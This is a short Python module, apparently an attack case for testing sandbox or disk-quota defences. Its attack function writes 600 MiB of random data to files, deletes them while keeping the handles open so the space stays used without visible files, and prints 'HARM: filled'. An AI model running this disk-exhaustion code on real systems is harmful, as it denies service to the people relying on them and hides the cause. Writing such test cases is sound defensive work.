"""Fills the disk with files that are small enough, and holds some open that have no name (here: 600 MiB)."""

import os
import time
from pathlib import Path


def attack(target: dict[str, str]) -> None:
    held = []
    for number in range(20):
        file = Path(f"part{number}").open("wb", buffering=0)
        for _ in range(30):
            file.write(os.urandom(2**20))
        os.fsync(file.fileno())
        os.remove(file.name)
        held.append(file)
    time.sleep(1)
    print("HARM: filled")
